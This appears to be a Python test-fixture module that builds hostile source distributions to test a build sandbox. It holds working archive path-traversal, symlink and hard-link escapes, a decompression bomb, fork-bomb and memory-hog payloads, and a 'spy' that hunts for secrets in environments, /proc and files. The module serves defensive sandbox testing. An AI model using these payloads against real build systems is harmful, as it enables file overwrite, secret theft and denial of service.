"""Hostile sdists for the sandbox tests: archives that try to put files outside the folder
they are unpacked in, and projects whose build code attacks the builder (its limits, its
network neighbours, its secrets).

The archives are written with tarfile directly (no build tool makes such things). The
projects use an in-tree PEP 517 backend with no build requirements, so a build needs no
index and each runs in seconds; its attack runs when pip asks it for a wheel.
"""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zlib
from pathlib import Path

VERSION = "1.0"
# What the attacks print to the build's log, one JSON object after the prefix.
REPORT_PREFIX = "ARMWHEELS-HOSTILE "
FLOOD_END = "ARMWHEELS-FLOOD-END"

_PYPROJECT = """[build-system]
requires = []
build-backend = "hostile_backend"
backend-path = ["."]

[project]
name = "{name}"
version = "{version}"
"""
# The backend: metadata without running anything, the attack when a wheel is asked for.
_BACKEND = '''import os, sys


def _say(line):
    """Into the build's log: pip shows a failed backend's output."""
    print(line, flush=True)


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    info = os.path.join(metadata_directory, "{name}-{version}.dist-info")
    os.makedirs(info)
    with open(os.path.join(info, "METADATA"), "w") as out:
        out.write("Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n")
    return "{name}-{version}.dist-info"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
{attack}
    raise SystemExit("{name}: the attack is over, no wheel")


def build_sdist(sdist_directory, config_settings=None):
    raise SystemExit("not for making sdists")
'''


def _info(
    name: str, size: int = 0, kind: bytes = tarfile.REGTYPE, mode: int = 0o644
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode, info.mtime = size, kind, mode, 1_700_000_000
    return info


def _project_files(name: str, attack: str) -> dict[str, bytes]:
    indented = "\n".join(f"    {line}" if line else "" for line in attack.splitlines())
    return {
        "pyproject.toml": _PYPROJECT.format(name=name, version=VERSION).encode(),
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {VERSION}\n".encode(),
        "hostile_backend.py": _BACKEND.format(
            name=name, version=VERSION, attack=indented or "    pass"
        ).encode(),
    }


def _write_tar(dest: Path, name: str, extra: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    """name-1.0.tar.gz: a buildable project (so that only the hostile members are wrong)
    followed by `extra`."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"{name}-{VERSION}.tar.gz"
    root = f"{name}-{VERSION}"
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as archive:
        for relative, data in _project_files(name, "").items():
            archive.addfile(_info(f"{root}/{relative}", len(data)), io.BytesIO(data))
        for info, content in extra:
            archive.addfile(info, io.BytesIO(content) if content is not None else None)
    return path


def traversal_sdist(dest: Path, target: Path) -> Path:
    """A member named `<root>/../../…/target`: unpacked naively, it overwrites `target`."""
    data = b"overwritten by an sdist\n"
    name = f"traversal-{VERSION}/" + "../" * 12 + str(target).lstrip("/")
    return _write_tar(dest, "traversal", [(_info(name, len(data)), data)])


def absolute_path_sdist(dest: Path, target: Path) -> Path:
    """A member named by an absolute path."""
    data = b"overwritten by an sdist\n"
    return _write_tar(dest, "absolute", [(_info(str(target), len(data)), data)])


def symlink_escape_sdist(dest: Path, target: Path) -> Path:
    """A relative link climbing out of the root, then a file written through it."""
    root = f"symlinkescape-{VERSION}"
    link = _info(f"{root}/up", kind=tarfile.SYMTYPE)
    link.linkname = "../" * 12 + str(target.parent).lstrip("/")
    data = b"written through a link\n"
    through = _info(f"{root}/up/{target.name}", len(data))
    return _write_tar(dest, "symlinkescape", [(link, None), (through, data)])


def absolute_symlink_sdist(dest: Path, target: Path) -> Path:
    """A link to an absolute path of the host (its secrets, to be packed into the wheel)."""
    link = _info(f"abslink-{VERSION}/secret", kind=tarfile.SYMTYPE)
    link.linkname = str(target)
    return _write_tar(dest, "abslink", [(link, None)])


def hardlink_escape_sdist(dest: Path, target: Path) -> Path:
    """A hard link to a file of the host: unpacked as root, the host file and the link
    are one inode, and writing one writes the other."""
    link = _info(f"hardlink-{VERSION}/passwd", kind=tarfile.LNKTYPE)
    link.linkname = str(target)
    return _write_tar(dest, "hardlink", [(link, None)])


def device_sdist(dest: Path) -> Path:
    """A character device (the host's memory, /dev/mem's numbers) and a fifo."""
    device = _info(f"devices-{VERSION}/mem", kind=tarfile.CHRTYPE, mode=0o666)
    device.devmajor, device.devminor = 1, 1
    fifo = _info(f"devices-{VERSION}/pipe", kind=tarfile.FIFOTYPE)
    return _write_tar(dest, "devices", [(device, None), (fifo, None)])


def bomb_sdist(dest: Path, unpacked: int) -> Path:
    """A decompression bomb: one member of `unpacked` zero bytes, a few hundred KiB on
    disk. Written as a stream of gzip members (a gzip file may hold several), each one
    MiB of zeros compressed once, so making it costs nothing either."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"bomb-{VERSION}.tar.gz"
    block = 1024 * 1024
    header = _info(f"bomb-{VERSION}/zeros", unpacked).tobuf(tarfile.GNU_FORMAT)
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: a gzip member
    zeros_member = compressor.compress(bytes(block)) + compressor.flush()
    with path.open("wb") as out:
        out.write(gzip.compress(header))
        for _ in range(unpacked // block):
            out.write(zeros_member)
        out.write(gzip.compress(bytes(unpacked % block + 2 * tarfile.BLOCKSIZE)))
    return path


def zip_traversal_sdist(dest: Path, target: Path) -> Path:
    """The traversal again, as a .zip sdist (a format pip accepts too)."""
    import zipfile

    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"ziptraversal-{VERSION}.zip"
    root = f"ziptraversal-{VERSION}"
    with zipfile.ZipFile(path, "w") as archive:
        for relative, data in _project_files("ziptraversal", "").items():
            archive.writestr(f"{root}/{relative}", data)
        archive.writestr(f"{root}/" + "../" * 12 + str(target).lstrip("/"), b"overwritten\n")
    return path


def attack_sdist(dest: Path, name: str, attack: str) -> Path:
    """A well-formed sdist whose backend runs `attack` (Python statements; `_say(line)`
    writes to the build log) when pip asks it for a wheel."""
    dest.mkdir(parents=True, exist_ok=True)
    path = dest / f"{name}-{VERSION}.tar.gz"
    root = f"{name}-{VERSION}"
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as archive:
        for relative, data in _project_files(name, attack).items():
            archive.addfile(_info(f"{root}/{relative}", len(data)), io.BytesIO(data))
    return path


# In-sandbox code (set in front of an attack): `tunnel(host, port)` asks the build's
# proxy for a CONNECT and returns the socket and the proxy's status line.
TUNNEL = r"""
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])

def tunnel(host, port):
    sock = socket.create_connection((proxy.hostname, proxy.port), timeout=60)
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            break
        head += chunk
    return sock, head.split(b"\r\n", 1)[0].decode(errors="replace")
"""


FORK_BOMB = """import time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""
ENDLESS_LOOP = """while True:
    pass
"""
MEMORY_HOG = """held = []
while True:
    held.append(bytearray(64 * 1024 * 1024))
"""


def log_flood(total: int, line: int = 1024) -> str:
    """Writes `total` bytes of output (lines of `line` bytes) to its stdout, then
    FLOOD_END, and fails. Run by pip, which holds a backend's output until it ends, the
    output fills pip's memory; run by a recipe's build command, it goes straight to the
    build log."""
    return f"""line = b"x" * ({line} - 1) + b"\\n"
block = line * max(1, {1024 * 1024} // len(line))
out = sys.stdout.buffer
for _ in range({total} // len(block)):
    out.write(block)
out.write(b"{FLOOD_END}\\n")
out.flush()
"""


# A recipe's build command that unpacks the sdist and runs its backend itself, as some
# recipes do: the sdist's output then goes to the build log with nothing in between.
RUN_BACKEND_DIRECTLY = (
    'tar -xzf "$SDIST" && cd */ && python3 -c \'import hostile_backend as b; b.build_wheel(".")\''
)


def spy(
    secret: str, tcp: dict[str, int], unix: list[str], paths: list[str], canaries: list[str]
) -> str:
    """Looks for `secret` everywhere a build can read (its environment, every /proc/*/
    environ and cmdline it can see, the files under `paths`), tries the services on the
    host's loopback (`tcp`: name to port on 127.0.0.1) and their unix sockets, tries to
    write each of `canaries` and to leave a file in /tmp, and reports what it found."""
    # Reversed: the spy's own source, unpacked in its work directory, must not hold it.
    given = {"secret": secret[::-1], "tcp": tcp, "unix": unix, "paths": paths}
    settings = json.dumps(given)
    return f"""import glob, json, socket
given = json.loads({settings!r})
secret = given["secret"][::-1]
report = {{"tcp": {{}}, "unix": {{}}, "leaks": [], "pids": [], "written": []}}
for label, port in given["tcp"].items():
    try:
        socket.create_connection(("127.0.0.1", port), timeout=3).close()
        report["tcp"][label] = "connected"
    except OSError as exc:
        report["tcp"][label] = type(exc).__name__ + ": " + str(exc)
for path in given["unix"]:
    try:
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(3)
        client.connect(path)
        client.close()
        report["unix"][path] = "connected"
    except OSError as exc:
        report["unix"][path] = type(exc).__name__
report["leaks"] += ["env:" + k for k, v in os.environ.items() if secret in v]
for proc in glob.glob("/proc/[0-9]*"):
    report["pids"].append(int(proc.rsplit("/", 1)[1]))
    for part in ("environ", "cmdline"):
        try:
            with open(proc + "/" + part, "rb") as handle:
                if secret.encode() in handle.read():
                    report["leaks"].append(proc + "/" + part)
        except OSError:
            pass
for root in given["paths"]:
    for folder, dirs, files in os.walk(root) if os.path.isdir(root) else [("", [], [root])]:
        for name in files:
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as handle:
                    if secret.encode() in handle.read(1 << 20):
                        report["leaks"].append(path)
            except OSError:
                pass
for path in {canaries!r} + ["/tmp/armwheels-escaped"]:
    try:
        with open(path, "a") as handle:
            handle.write("escaped\\n")
        report["written"].append(path)
    except OSError:
        pass
_say({REPORT_PREFIX!r} + json.dumps(report))
"""
